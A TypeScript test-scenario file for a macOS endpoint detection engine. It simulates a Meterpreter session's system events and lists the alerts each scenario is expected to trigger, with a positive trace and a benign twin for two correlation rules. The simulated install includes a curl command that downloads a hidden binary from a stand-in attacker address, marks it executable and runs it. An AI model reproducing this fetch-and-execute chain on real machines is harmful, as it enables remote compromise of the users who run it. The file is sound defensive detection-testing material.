import { FCNTL, FFLAG, FDTYPE, PROC_CHECK } from '../es.js';
import type { Scenario } from '../scenario.js';
import { ROOT, USER, type Proc, type World } from '../world.js';
import { desktop, pipeFds, run } from './desktop.js';

const AGENT = '/tmp/.updater';

/**
 * What mettle does at start: map libraries, open + fcntl of its own binary, noise. The WithSecure ESF study
 * measured 30 opens for the installation and names open and fcntl, cross-referenced, as the agent's
 * fingerprint; that the pair is on the agent's own binary (mettle keeps its configuration appended there)
 * is this generator's inference, not a measurement.
 */
function install(w: World, p: Proc): void {
  for (const lib of [
    '/usr/lib/libSystem.B.dylib',
    '/usr/lib/libc++.1.dylib',
    '/usr/lib/libobjc.A.dylib',
    '/System/Library/Frameworks/CoreFoundation.framework/Versions/A/CoreFoundation',
    '/System/Library/Frameworks/Security.framework/Versions/A/Security',
  ]) {
    w.mmap(p, lib, 5, 5, 0x2);
    w.mprotect(p, 1, 0x1_0000_0000 + w.rng.int(0, 0xffff) * 0x4000, 0x4000);
  }
  // The open+fcntl pair (inferred target: the agent's own binary, where mettle keeps its configuration).
  w.open(p, AGENT, FFLAG.FREAD);
  w.fcntl(p, AGENT, FCNTL.F_GETPATH);
  w.fcntl(p, AGENT, FCNTL.F_NOCACHE);
  w.close(p, AGENT);
  const files = [
    '/dev/urandom',
    '/etc/hosts',
    '/etc/resolv.conf',
    '/private/var/run/resolv.conf',
    '/System/Library/CoreServices/SystemVersion.plist',
    '/usr/share/zoneinfo/UTC',
    '/etc/passwd',
    '/etc/group',
    '/dev/null',
    '/private/etc/services',
    '/private/etc/protocols',
  ];
  for (let i = 0; i < 29; i++) {
    // 29 + the open of itself = the 30 opens the study measured
    const f = files[i % files.length]!;
    w.open(p, f, FFLAG.FREAD);
    if (f === '/dev/urandom') w.fcntl(p, f, FCNTL.F_SETFD);
    w.close(p, f);
  }
  for (let i = 0; i < 60; i++)
    w.mprotect(p, w.rng.pick([1, 3, 5]), 0x1_0000_0000 + w.rng.int(0, 0xffff) * 0x4000, 0x4000 * w.rng.int(1, 8));
  for (const d of ['/usr/lib', '/System/Library/Frameworks', '/usr/share/zoneinfo', '/private/var/run', '/Users/alice'])
    w.readdir(p, d);
}

export const meterpreterSession: Scenario = {
  name: 'meterpreter-session',
  description:
    'A Meterpreter (mettle) session on a logged-in Mac, modelled on the WithSecure ESF study: the user pastes a curl command that drops /tmp/.updater, makes it executable and runs it (install: open+fcntl of its own binary, library maps, mprotect and readdir noise); the agent forks into the background, lists processes (249 opens, as the study measured, plus the proc_check calls a listing makes, inferred), loads an extension (RWX), streams the webcam (camera IOKit user client and the 478 opens the study measured), shares the screen (framebuffer user client), edits a script in one write, receives an upload in 226 blocks, then opens a shell and runs five discovery commands.',
  seed: 0x5eed_0006,
  start: '2024-05-02T14:03:11.250000000Z',
  version: 7,
  expect: {
    'File In Temporary Or Shared Folder Made Executable': 1,
    'Unsigned Or Ad-hoc Binary Executed From Temporary, Downloads Or Hidden Location': 1,
    'Downloaded File Executed Within Five Minutes': 1,
    'Meterpreter Open+fcntl Fingerprint': 1,
    'Process Listing Burst By Untrusted Process': 1,
    'RWX Memory In Unsigned Process From Staging Location': 1,
    'Camera User Client Opened By Unsigned Or Ad-hoc Process': 1,
    'Framebuffer User Client Opened By Unsigned Or Ad-hoc Process': 1,
    'Script Or Executable Modified By Untrusted Non-Editor Process': 1,
    'File Transferred In Many Blocks By One Untrusted Process': 1,
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
    'Burst Of Distinct Discovery Utilities From One Parent': 1,
  },
  build(w) {
    const d = desktop(w);
    // The user opens a new Terminal tab: Terminal → login (setuid root) → -zsh, so alerts show the
    // whole chain back to Terminal.
    const login = w.spawn(d.terminal, '/usr/bin/login', ['login', '-pf', 'alice'], {
      euid: ROOT,
      tty: '/dev/ttys004',
      responsible: d.terminal,
    });
    const shell = w.spawn(login, '/bin/zsh', ['-zsh'], { euid: USER, ruid: USER, tty: '/dev/ttys004', cwd: w.home });
    d.shell = shell;
    w.pause(1500, 2500);
    // Install: the user pastes a "fix" from a web page.
    const curl = w.spawn(d.shell, '/usr/bin/curl', ['curl', '-s', '-o', AGENT, 'http://203.0.113.7:8080/updater']);
    w.open(curl, '/etc/ssl/cert.pem');
    w.create(curl, AGENT, 'exe');
    w.open(curl, AGENT, FFLAG.FWRITE | FFLAG.O_CREAT | FFLAG.O_TRUNC);
    for (let i = 0; i < 14; i++) {
      w.pause(3, 12);
      w.write(curl, AGENT, 16384);
    }
    w.close(curl, AGENT, true);
    w.exit(curl);
    w.pause(1800, 2600);
    const chmod = w.spawn(d.shell, '/bin/chmod', ['chmod', '+x', AGENT]);
    w.setmode(chmod, AGENT, 0o755);
    w.exit(chmod);
    w.pause(900, 1600);
    const stager = w.spawn(d.shell, AGENT, [AGENT]);
    install(w, stager);
    // Daemonise: the session lives in a child; the stager exits so the shell gets its prompt back.
    const agent = w.fork(stager);
    w.exit(stager);
    w.pause(3000, 5000);

    // sysinfo / getuid
    w.open(agent, '/System/Library/CoreServices/SystemVersion.plist');
    w.procCheck(agent, agent, PROC_CHECK.PIDINFO, 13);
    w.pause(8000, 12000);

    // ps: the study measured 249 open events during the process listing; it does not name the files, so
    // the executables of the listed processes stand in for them (inferred). The listing's proc_check calls
    // (one listpids, then two pidinfo calls per process) are inferred too: the study did not count them.
    const listed = [
      ...d.others,
      d.windowServer,
      d.loginwindow,
      d.finder,
      d.dock,
      d.runningboardd,
      d.mds,
      d.tccd,
      d.securityd,
      d.btm,
      d.terminal,
    ].slice(0, 124);
    w.procCheck(agent, null, PROC_CHECK.LISTPIDS, 0);
    for (const target of listed) {
      w.procCheck(agent, target, PROC_CHECK.PIDINFO, 13);
      w.procCheck(agent, target, PROC_CHECK.PIDINFO, 11);
    }
    for (let i = 0; i < 249; i++) {
      const f = listed[i % listed.length]!.exe;
      w.open(agent, f);
      w.close(agent, f);
    }
    w.pause(15000, 20000);

    // load stdapi: reflective, RWX once.
    w.mprotect(agent, 7, 0x1_2000_0000, 0x8_0000);
    w.mprotect(agent, 5, 0x1_2000_0000, 0x8_0000);
    w.pause(5000, 9000);

    // webcam_stream
    w.iokitOpen(agent, 'AppleH13CamInUserClient', 0);
    for (let i = 0; i < 478; i++) {
      // the study's 478 opens while streaming
      const f = w.rng.pick([
        '/Library/CoreMediaIO/Plug-Ins/DAL',
        '/System/Library/Frameworks/CoreMediaIO.framework/Versions/A/Resources/VDC.plugin/Contents/Info.plist',
        '/System/Library/Frameworks/CoreMediaIO.framework/Versions/A/CoreMediaIO',
        '/System/Library/Frameworks/AVFoundation.framework/Versions/A/AVFoundation',
        '/dev/urandom',
      ]);
      w.open(agent, f);
      w.close(agent, f);
      w.pause(5, 40);
    }
    w.pause(20000, 30000);

    // screenshare
    w.iokitOpen(agent, 'IOMobileFramebufferUserClient', 0);
    for (let i = 0; i < 20; i++) w.mprotect(agent, 3, 0x1_3000_0000 + i * 0x10000, 0x10000);
    w.pause(15000, 25000);

    // edit: one write to a user's script
    w.open(agent, '/Users/alice/bin/backup.sh', FFLAG.FWRITE | FFLAG.O_TRUNC);
    w.write(agent, '/Users/alice/bin/backup.sh', 812);
    w.close(agent, '/Users/alice/bin/backup.sh', true);
    w.pause(6000, 9000);

    // upload: 226 blocks in a few seconds
    w.create(agent, '/tmp/tools.zip');
    w.open(agent, '/tmp/tools.zip', FFLAG.FWRITE | FFLAG.O_CREAT);
    for (let i = 0; i < 226; i++) {
      w.write(agent, '/tmp/tools.zip', 65536);
      w.pause(4, 14);
    }
    w.close(agent, '/tmp/tools.zip', true);
    w.pause(10000, 14000);

    // shell: /bin/sh on pipes, then discovery commands
    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], {
      fds: [
        { fd: 0, fdtype: FDTYPE.PIPE },
        { fd: 1, fdtype: FDTYPE.PIPE },
        { fd: 2, fdtype: FDTYPE.PIPE },
      ],
      tty: null,
    });
    for (const cmd of [
      ['/usr/bin/id', 'id'],
      ['/usr/bin/sw_vers', 'sw_vers'],
      ['/usr/bin/uname', 'uname', '-a'],
      ['/bin/ps', 'ps', 'aux'],
      ['/usr/sbin/system_profiler', 'system_profiler', 'SPHardwareDataType'],
    ] as const) {
      w.pause(2500, 6000);
      run(w, sh, cmd[0], cmd.slice(1), { fds: pipeFds(true, true) });
    }
    w.pause(4000, 8000);
    w.exit(sh);
  },
};

/** The positive correlation trace: only the two correlations the WithSecure study suggests (open+fcntl, block writes), nothing else. */
export const correlationPositive: Scenario = {
  name: 'correlation-positive',
  description:
    'The two Meterpreter correlations in isolation: an already running unsigned binary in /tmp opens its own executable and calls fcntl on it 40 µs–1 ms later, then writes one file 226 times in about 3 seconds. No exec is captured, so only the correlations can fire.',
  seed: 0x0c0_0003,
  start: '2024-05-02T15:00:00.000000000Z',
  version: 8,
  expect: {
    'Meterpreter Open+fcntl Fingerprint': 1,
    'File Transferred In Many Blocks By One Untrusted Process': 1,
  },
  build(w) {
    const d = desktop(w);
    const agent = w.existing(AGENT, { tty: null }, w.launchd);
    w.pause(500, 800);
    w.open(agent, AGENT, FFLAG.FREAD);
    w.fcntl(agent, AGENT, FCNTL.F_GETPATH);
    w.close(agent, AGENT);
    w.pause(4000, 6000);
    w.open(d.finder, '/Users/alice/Desktop');
    w.create(agent, '/tmp/tools.zip');
    for (let i = 0; i < 226; i++) {
      w.write(agent, '/tmp/tools.zip', 65536);
      w.pause(5, 16);
    }
    w.close(agent, '/tmp/tools.zip', true);
  },
};

/** The positive trace's benign twin: the same event types, spread in time or across processes. */
export const correlationBenign: Scenario = {
  name: 'correlation-benign',
  description:
    "The same event types as correlation-positive without the patterns: open and fcntl of its own binary 8 s apart; open by one process and fcntl by another with the same image (and by a new process that reused the first one's pid); 226 writes to one file over two minutes; 300 writes in 3 s split over two processes, and 300 over two files; 300 proc_check spread over five minutes.",
  seed: 0x0c0_0004,
  start: '2024-05-02T15:10:00.000000000Z',
  version: 8,
  expect: {},
  build(w) {
    const d = desktop(w);
    const a = w.existing(AGENT, { tty: null }, w.launchd);
    const b = w.existing('/tmp/.helper', { tty: null }, w.launchd);
    const c = w.existing('/tmp/.helper', { tty: null }, w.launchd);
    // Outside the 5 s window.
    w.open(a, AGENT);
    w.pause(8000, 9000);
    w.fcntl(a, AGENT, FCNTL.F_GETPATH);
    // Across processes with the same image.
    w.open(b, '/tmp/.helper');
    w.fcntl(c, '/tmp/.helper', FCNTL.F_GETPATH);
    // pid reuse: b exits, a new process gets its pid (new pidversion) and calls fcntl 1 ms later.
    w.exit(b);
    const reused = w.existing('/tmp/.helper', { tty: null, pid: b.pid }, w.launchd);
    w.fcntl(reused, '/tmp/.helper', FCNTL.F_GETPATH);
    w.pause(1000, 2000);
    // 226 writes, one file, two minutes.
    for (let i = 0; i < 226; i++) {
      w.write(a, '/tmp/slow.bin', 65536);
      w.pause(500, 560);
    }
    // 300 writes in ~3 s, two processes.
    for (let i = 0; i < 300; i++) {
      w.write(i % 2 ? reused : c, '/tmp/shared.bin', 4096);
      w.pause(5, 12);
    }
    // 300 writes in ~3 s, one process, two files.
    for (let i = 0; i < 300; i++) {
      w.write(a, i % 2 ? '/tmp/x1.bin' : '/tmp/x2.bin', 4096);
      w.pause(5, 12);
    }
    // proc_check spread out: one per second for five minutes.
    for (let i = 0; i < 300; i++) {
      w.procCheck(a, w.rng.pick(d.others), PROC_CHECK.PIDINFO, 13);
      w.pause(990, 1010);
    }
  },
};
